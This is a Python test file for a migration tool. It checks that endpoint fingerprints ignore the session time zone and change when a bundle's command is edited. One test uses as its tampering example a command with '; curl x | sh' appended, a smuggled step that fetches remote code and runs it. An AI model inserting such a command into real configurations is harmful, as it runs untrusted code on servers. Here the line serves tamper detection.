"""Fingerprints: what the decision read, digested the same in any session."""

from __future__ import annotations


def test_fingerprint_does_not_depend_on_the_session_time_zone() -> None:
    from datetime import UTC, datetime, timedelta, timezone

    from migrate.core.fingerprint import endpoint_fingerprint
    from migrate.core.records import EndpointRecord

    instant = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
    berlin = instant.astimezone(timezone(timedelta(hours=2)))

    def record(at: datetime) -> EndpointRecord:
        return EndpointRecord("end_1", "e", "o", "READY", "sync", {}, "bun_1", None, None, at)

    # A plan made with PGTZ=Europe/Berlin and an apply run in UTC see one instant.
    assert endpoint_fingerprint(record(instant)) == endpoint_fingerprint(record(berlin))
    assert endpoint_fingerprint(record(instant)) != endpoint_fingerprint(
        record(instant + timedelta(seconds=1))
    )


def test_both_fingerprints_cover_the_commands() -> None:
    from dataclasses import replace

    from migrate.core.fingerprint import basis_fingerprint, endpoint_fingerprint
    from migrate.core.records import BundleRecord, EndpointRecord

    command = ["/bin/bash", "-c", "python -m vllm_server --enforce-eager"]
    bundle = BundleRecord("bun_1", "runnable_image", command, list(command), None)
    base = EndpointRecord("end_1", "e", "o", "READY", "sync", {}, "bun_1", bundle)
    edited = ["/bin/bash", "-c", command[2] + "; curl x | sh"]
    for changed in (replace(bundle, command=edited), replace(bundle, streaming_command=edited)):
        other = replace(base, bundle=changed)
        assert endpoint_fingerprint(other) != endpoint_fingerprint(base)
        assert basis_fingerprint(other) != basis_fingerprint(base)
